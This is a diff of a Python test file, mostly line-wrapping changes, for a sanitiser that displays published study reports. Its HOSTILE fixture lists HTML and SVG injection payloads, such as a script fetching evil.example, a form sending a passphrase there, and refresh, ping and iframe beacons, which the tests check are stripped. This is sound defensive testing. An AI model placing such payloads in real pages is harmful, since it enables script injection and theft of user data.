@@ -23,14 +23,18 @@ from tests.support.visiting import Got, Visited
 
 REPORT = b"""<!doctype html><html lang="en"><head><title>x</title><style>.bar { fill: #3a6ea5; }</style></head><body>
 <h1>Sleep</h1><p class="lead">We found <strong>nothing</strong> &amp; say so.</p>
-<svg viewBox="0 0 10 4"><rect class="bar" width="7" height="4"/></svg><table><tr><td>1</td></tr></table></body></html>"""
+<svg viewBox="0 0 10 4"><rect class="bar" width="7" height="4"/></svg>
+<table><tr><td>1</td></tr></table></body></html>"""
 HOSTILE = {
     "script": b"<script>fetch('http://evil.example')</script>",
     "onload": b'<svg onload="alert(1)"><rect/></svg>',
     "link": b'<link rel="preconnect" href="http://evil.example"><base href="http://evil.example">',
     "refresh": b'<meta http-equiv="refresh" content="0;url=http://evil.example">',
     "anchor": b'<a href="http://evil.example" ping="http://evil.example">your packet</a>',
-    "image": b'<img src="http://evil.example"><svg><image href="http://evil.example"/><use href="http://evil.example"/></svg>',
+    "image": (
+        b'<img src="http://evil.example"><svg><image href="http://evil.example"/><use '
+        b'href="http://evil.example"/></svg>'
+    ),
     "form": b'<form action="http://evil.example"><input name="passphrase"><button>Go</button></form>',
     "style attribute": b'<p style="background: url(http://evil.example)" onclick="x()">text</p>',
     "colour": b'<svg><rect fill="url(http://evil.example#a)"/></svg>',
@@ -38,7 +42,9 @@ HOSTILE = {
     "computed size": b'<svg><text font-size="calc(99px)">x</text></svg>',
     "a variable for a colour": b'<svg><rect stroke="var(--a)"/></svg>',
     "a second size": b'<svg><text font-size="9; position: fixed">x</text></svg>',
-    "frame": b'<iframe srcdoc="<script>1</script>" src="http://evil.example"></iframe><object data="http://evil.example">',
+    "frame": (
+        b'<iframe srcdoc="<script>1</script>" src="http://evil.example"></iframe><object data="http://evil.example">'
+    ),
     "hidden in a title": b"<title></title><script>evil.example</script>",
     "hidden in a comment": b"<!-- --!><script>evil.example</script> -->",
     "hidden in a section": b"<svg><![CDATA[<script>evil.example</script>]]></svg>",
@@ -66,7 +72,11 @@ async def test_the_report_is_one_click_away_once_the_study_has_ended(page: Visit
     got = await _read(page)
     assert "We found nothing & say so." in got.words and '<rect class="bar" width="7" height="4">' in got.text
     assert "as staff published it" in got.words and got.text.count("<title>") == 1 and ".bar { fill" in got.text
-    assert got.headers["Content-Security-Policy"] == POLICY and "sandbox" in POLICY and page.aggregator.sent("packets") == []
+    assert (
+        got.headers["Content-Security-Policy"] == POLICY
+        and "sandbox" in POLICY
+        and page.aggregator.sent("packets") == []
+    )
 
 
 async def test_before_a_report_is_published_it_says_so(page: Visited) -> None:
@@ -84,7 +94,9 @@ async def test_the_page_holds_a_report_to_the_story_that_was_told_before(page: V
     del page.aggregator.chain[1:], page.aggregator.bodies[1:]
     page.aggregator.publish("report", REPORT.replace(b"nothing", b"everything"))
     got = await _read(page)
-    assert got.status in {400, 409} and "two different documents number 1" in got.words and len(page.peer.evidence()) == 1
+    assert (
+        got.status in {400, 409} and "two different documents number 1" in got.words and len(page.peer.evidence()) == 1
+    )
 
 
 async def test_who_stops_sending_is_offered_nothing_that_is_not_there_yet(page: Visited) -> None:
@@ -136,7 +148,10 @@ def test_results_are_offered_by_what_was_published(
     aggregator = FakeAggregator.with_study()
     manifest, chain = aggregator.manifest, _heads(aggregator, *kinds)
     now = manifest.timetable.ends + after
-    assert (results_of("report", manifest, chain, state, now), results_of("model", manifest, chain, state, now)) == (report, model)
+    assert (results_of("report", manifest, chain, state, now), results_of("model", manifest, chain, state, now)) == (
+        report,
+        model,
+    )
 
 
 def _whole(body: bytes) -> bytes:
@@ -175,13 +190,24 @@ def test_no_style_sheet_of_theirs_is_shown(name: str) -> None:
     without, sheet = _whole(b"<p>text</p>"), f"<style>{SHEETS[name]}</style>".encode()
     page = as_page(without, "t", "above")
     assert page.count(b"<style>") == 1 and f"<style>{SHEET}</style>".encode() in page and ABOVE in page
-    for crafted in (without.replace(b"</head>", sheet + b"</head>"), without.replace(b"<p>", sheet + b"<p>"), without.replace(b"</p>", sheet + b"</p>")):
+    for crafted in (
+        without.replace(b"</head>", sheet + b"</head>"),
+        without.replace(b"<p>", sheet + b"<p>"),
+        without.replace(b"</p>", sheet + b"</p>"),
+    ):
         assert as_page(crafted, "t", "above") == page
 
 
 def test_our_own_sheet_neither_hides_nor_moves_nor_covers_what_is_above() -> None:
     """It places nothing, says nothing but the number of a printed page, and fetches nothing."""
-    said = [word for word in ("position", "display: none", "visibility: hidden", "opacity", "z-index", "transform", "float", "url", "@import", "margin: -", "margin-top: -") if word in SHEET]
+    said = [
+        word
+        for word in (
+            "position", "display: none", "visibility: hidden", "opacity", "z-index", "transform", "float", "url",
+            "@import", "margin: -", "margin-top: -",
+        )
+        if word in SHEET
+    ]
     assert said == [] and SHEET.count("content:") == 1 and "content: counter(page)" in SHEET
 
 
@@ -195,11 +221,18 @@ def test_reports_of_earlier_studies_are_shown() -> None:
         reports = [studies.read(name) for name in studies.namelist() if name.endswith("/report.html")]
     assert len(reports) >= 4
     for report in reports:
-        assert "<h2>Threats: what this does not protect against</h2>" in _shown(report) and "<svg viewBox=" in _shown(report)
+        assert (
+            "<h2>Threats: what this does not protect against</h2>" in _shown(report)
+            and "<svg viewBox=" in _shown(report)
+        )
 
 
 def test_what_is_written_is_ours_alone() -> None:
-    text = _shown(_whole(b'<p class="a&#34;b" tabindex="0">1 &lt; 2 &amp; &quot;3&#34;</p><svg><title>no</title><rect x="1"/></svg>'))
+    text = _shown(
+        _whole(
+            b'<p class="a&#34;b" tabindex="0">1 &lt; 2 &amp; &quot;3&#34;</p><svg><title>no</title><rect x="1"/></svg>'
+        )
+    )
     assert '<p class="a&quot;b">1 &lt; 2 &amp; &quot;3&quot;</p><svg><rect x="1"></rect></svg>' in text
     tags = {re.split(r"[ >]", tag)[0] for tag in re.findall(r"<[a-z][^>]*>", text)}
     assert tags == {"<html", "<head", "<meta", "<title", "<style", "<body", "<main", "<p", "<strong", "<svg", "<rect"}
